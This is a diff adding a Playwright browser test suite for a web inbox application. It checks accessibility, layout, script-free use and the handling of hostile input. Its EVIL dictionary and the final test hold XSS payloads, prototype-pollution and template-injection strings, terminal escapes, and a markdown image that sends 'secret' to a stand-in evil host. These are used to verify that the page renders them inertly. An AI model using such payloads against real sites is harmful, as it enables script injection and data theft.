@@ -1,0 +1,280 @@
+"""The page for everybody: U20 to U22, U24 and U25."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Final
+
+import pytest
+from playwright.sync_api import expect
+
+from humanmcp.desk.templates import web_folder
+from tests.browser.seats import Window, begin, call, request
+from tests.waiting import until
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
+    from playwright.sync_api import Page
+
+    from tests.desk.desking import Desking
+    from tests.serving import Serving
+
+    Windows = Callable[..., Window]
+
+pytestmark = pytest.mark.browser
+
+ROOT: Final = Path(__file__).parents[2]
+AXE: Final = ROOT / "editor" / "node_modules" / "axe-core" / "axe.min.js"
+RULES: Final = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
+SIZES: Final = [(320, 640), (390, 844), (768, 1024), (1280, 800), (640, 400)]
+"""The last is 1280 x 800 at 200 %."""
+
+
+def fill(host: Serving, desk: Desking) -> str:
+    """Have one of everything in the inbox. Returns the name of the session."""
+    begin(host, desk)
+    host.say(call("1", city="Tokyo", days=3, note="a\nb"))
+    host.say(request("tools/list", None, "2"))
+    host.say(call("3", tool="lookup", city="Osaka"))
+    host.say(
+        '{"jsonrpc":"2.0","method":"notifications/cancelled",'
+        '"params":{"requestId":3,"reason":"changed my mind"}}'
+    )
+    return until(host.find_session, "a session").name
+
+
+def views(name: str) -> list[str]:
+    """List an address of every view."""
+    return [
+        f"/m/{name}/2",
+        f"/m/{name}/3",
+        f"/m/{name}/4",
+        f"/m/{name}/1",
+        "/history?q=tools",
+        f"/line/{name}/1",
+        "/connect",
+        "/present",
+        "/login",
+        "/no-such-page",
+    ]
+
+
+def violations(page: Page) -> list[str]:
+    """Return what axe finds wrong with a page."""
+    page.evaluate(AXE.read_text(encoding="utf-8"))
+    found: list[dict[str, Any]] = page.evaluate(
+        "tags => axe.run({ runOnly: tags }).then((one) => one.violations)", RULES
+    )
+    return [
+        f"{page.url}: {one['id']}: {node['html'][:160]} {node['failureSummary'][:300]}"
+        for one in found
+        for node in one["nodes"]
+    ]
+
+
+@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not installed: run editor/install.sh")
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("locale", ["en-US", "ja-JP"])
+def test_axe_finds_nothing_on_any_view(
+    desk: Desking, host: Serving, window: Windows, scheme: str, locale: str
+) -> None:
+    """U20: WCAG 2.2 A and AA, in both languages and themes, menus open and shut."""
+    name = fill(host, desk)
+    shown = window(color_scheme=scheme, locale=locale)
+    found: list[str] = []
+    for path in views(name):
+        page = shown.goto(path)
+        found += violations(page)
+    page = shown.goto(f"/m/{name}/2")
+    page.locator("header .menu summary").click()
+    page.locator("#sentence").fill("sunny")
+    page.locator("#tab-json").click()
+    found += violations(page)
+    page.locator("[name=kind][value=error]").check()
+    expect(page.locator("#problems .problem").first).to_be_visible()
+    found += violations(page)
+    page.evaluate("document.getElementById('keys').showModal()")
+    found += violations(page)
+    assert found == []
+
+
+def test_nothing_moves_where_less_motion_is_wanted(
+    desk: Desking, host: Serving, window: Windows
+) -> None:
+    """U20: no animation runs; in forced colours what is chosen can still be seen."""
+    name = fill(host, desk)
+    shown = window(forced_colors="active")
+    page = shown.goto(f"/m/{name}/2")
+    page.locator("#sentence").fill("sunny")
+    assert page.evaluate("document.getAnimations().length") == 0
+    border = page.locator(".views [aria-selected=true]").evaluate(
+        "one => getComputedStyle(one).borderTopStyle"
+    )
+    assert border == "solid"
+
+
+@pytest.mark.parametrize(("width", "height"), SIZES)
+def test_nothing_is_wider_than_the_window(
+    desk: Desking, host: Serving, window: Windows, width: int, height: int
+) -> None:
+    """U21: no sideways scrolling from 320 pixels to a desktop at 200 %; Send can be reached."""
+    name = fill(host, desk)
+    touch = width < 700
+    shown = window(
+        viewport={"width": width, "height": height}, has_touch=touch, is_mobile=width < 400
+    )
+    asked: list[str] = []
+    shown.page.on("request", lambda one: asked.append(one.url))
+    for path in views(name):
+        page = shown.goto(path)
+        page.wait_for_load_state("networkidle") if path == "/login" else None
+        wide = page.evaluate("document.documentElement.scrollWidth")
+        assert wide <= width, path
+    page = shown.goto(f"/m/{name}/2")
+    page.locator("#send").scroll_into_view_if_needed()
+    expect(page.locator("#send")).to_be_in_viewport()
+    if width < 400:
+        page.locator("#tab-json").tap()
+        assert not [url for url in asked if "vendor/editor" in url]
+        small = page.evaluate(
+            """() => [...document.querySelectorAll("button, .places a, .rows a, summary, input:not([type=radio])")]
+                .filter((one) => one.checkVisibility() && !one.closest("svg"))
+                .map((one) => [one.id || one.textContent.trim(), one.getBoundingClientRect()])
+                .filter(([, box]) => box.width && box.height < 44)
+                .map(([name, box]) => `${name} ${box.height}`)
+"""
+        )
+        assert small == []
+
+
+def test_the_projector_shows_large_and_cannot_answer(
+    desk: Desking, host: Serving, window: Windows
+) -> None:
+    """U22: at least 28 pixels (JSON 24), arrows as in the transcript, the page of the revision."""
+    name = fill(host, desk)
+    shown = window(viewport={"width": 1920, "height": 1080})
+    page = shown.goto("/present")
+    expect(page.locator("#main h1")).to_be_visible()
+    for selector, least in ((".meaning .what", 28), (".meaning pre", 24), (".stage p", 28)):
+        if page.locator(selector).count():
+            size = page.locator(selector).first.evaluate(
+                "one => parseFloat(getComputedStyle(one).fontSize)"
+            )
+            assert size >= least, selector
+    assert page.locator("main input, main textarea, main form, main [contenteditable]").count() == 0
+    steps = desk.get("/api/history")["lines"][::-1]
+    page = shown.goto(f"/present?name={name}&seq={steps[2]['seq']}")
+    arrows = page.locator(".sequence a.arrow line").evaluate_all(
+        "all => all.map((one) => Number(one.getAttribute('x2')) > Number(one.getAttribute('x1')))"
+    )
+    assert arrows == [step["way"] == "in" for step in steps[:3]]
+    page = shown.goto(f"/present?name={name}&seq=1")
+    link = page.locator(".meaning a").get_attribute("href") or ""
+    assert "/2025-11-25/" in link
+    page.keyboard.press("ArrowRight")
+    page.wait_for_url("**seq=2")
+
+
+def test_the_projector_follows(desk: Desking, host: Serving, window: Windows) -> None:
+    """U22: what arrives is on the wall without a hand."""
+    begin(host, desk)
+    page = window().goto("/present")
+    host.say(call("9", city="Nagoya"))
+    expect(page.locator(".meaning pre")).to_contain_text("Nagoya")
+
+
+def test_nothing_comes_from_elsewhere_and_little_comes_at_all(
+    desk: Desking, host: Serving, window: Windows
+) -> None:
+    """U24: no foreign request, every file there, less than 180 kB with the editor."""
+    name = fill(host, desk)
+    shown = window()
+    failed: list[str] = []
+    shown.page.on("response", lambda one: failed.append(one.url) if one.status >= 400 else None)
+    for path in views(name)[:-1]:
+        shown.goto(path)
+    shown.goto(f"/m/{name}/2").locator("#tab-json").click()
+    assert shown.foreign == []
+    assert failed == []
+    files = [one for one in (web_folder() / "static").rglob("*.*") if one.suffix in (".js", ".css")]
+    size = sum(len(gzip.compress(one.read_bytes(), 6)) for one in files)
+    assert size + len(gzip.compress(desk.page(f"/m/{name}/2").encode())) < 180_000
+
+
+def test_the_page_works_without_scripts(desk: Desking, host: Serving, window: Windows) -> None:
+    """U24: log in with the code, answer in a form, see what is wrong, send it anyway."""
+    begin(host, desk)
+    host.say(call("1", city="Tokyo"))
+    host.say(call("2", city="Osaka"))
+    page = window(java_script_enabled=False).page
+    code = desk.out.read_text(encoding="utf-8").split("code ")[1][:9]
+    page.goto(f"{desk.facts.address}login")
+    page.locator("[name=code]").fill(code)
+    page.locator("button.primary").click()
+    expect(page.locator("article h1")).to_be_visible()
+    page.locator("[name=text]").fill("sunny")
+    page.locator("button[value=send]").click()
+    assert json.loads(host.hear())["result"]["content"][0]["text"] == "sunny"
+    expect(page.locator(".sent")).to_be_visible()
+    page.locator("[name=form]").select_option("message")
+    page.locator("[name=text]").fill('{"jsonrpc": "2.0", "id": "2", "result": {"content": []}}')
+    page.locator("button[value=send]").click()
+    expect(page.locator(".plain-composer .problems")).to_contain_text("id must be")
+    page.locator("button[value=anyway]").click()
+    assert '"id":"2"' in host.hear().replace(" ", "")
+    page.locator("header .menu summary").click()
+    page.locator("button[value=ja]").click()
+    expect(page.locator("html")).to_have_attribute("lang", "ja")
+
+
+EVIL: Final = {
+    "<img src=x onerror=alert(1)>": "</script><script>alert(1)</script>",
+    "link": "javascript:alert(1)",
+    "__proto__": {"polluted": True},
+    "rtl": "abc\u202etxt.exe\u200b\U000e0041",
+    "escape": "\x1b[2J\x1b]8;;http://evil\x07",
+    "template": "{{7*7}} ${7*7} <%= 7 %>",
+    "markdown": "![](http://evil.example/?q=secret)",
+    "long": "x" * 1_000_000,
+}
+
+
+def test_hostile_content_is_text(desk: Desking, host: Serving, window: Windows) -> None:
+    """U25, B1 to B6: shown literally, nothing runs, nothing is fetched, the form works."""
+    begin(host, desk)
+    host.say(call('"\\"onclick=alert(1)"', tool="<svg onload=alert(1)>", **EVIL))
+    shown = window()
+    shown.page.on("dialog", lambda one: shown.troubles.append(one.message))
+    page = shown.goto("/")
+    expect(page.locator("h1")).to_contain_text("<svg onload=alert(1)>")
+    expect(page.locator(".asked")).to_contain_text("<img src=x onerror=alert(1)>")
+    expect(page.locator(".asked")).to_contain_text("⟦U+202E⟧")
+    expect(page.locator(".asked")).to_contain_text("⟦U+001B⟧")
+    expect(page.locator(".asked")).to_contain_text("{{7*7}}")
+    assert page.evaluate("({}).polluted") is None
+    assert page.locator(".asked a, .asked img, .asked svg").count() == 0
+    page.locator("#more summary").click()
+    page.locator("#make-rule").click()
+    expect(page.locator("dialog[open]")).to_contain_text("⟦U+202E⟧")
+    page.keyboard.press("Escape")
+    page.locator("#sentence").fill("fine")
+    page.locator("#send").click()
+    assert json.loads(host.hear())["id"] == '"onclick=alert(1)'
+    assert shown.foreign == []
+
+
+def test_five_hundred_messages_scroll(desk: Desking, host: Serving, window: Windows) -> None:
+    """U25: a long list is drawn, and one row more is there in a moment."""
+    begin(host, desk)
+    for number in range(1, 151):
+        host.say(call(str(number), city=f"City {number}"))
+    page = window().page
+    expect(page.locator("#rows .row")).to_have_count(150)
+    began = time.monotonic()
+    host.say(call("151", city="One more"))
+    expect(page.locator("#rows .row")).to_have_count(151)
+    assert time.monotonic() - began < 2
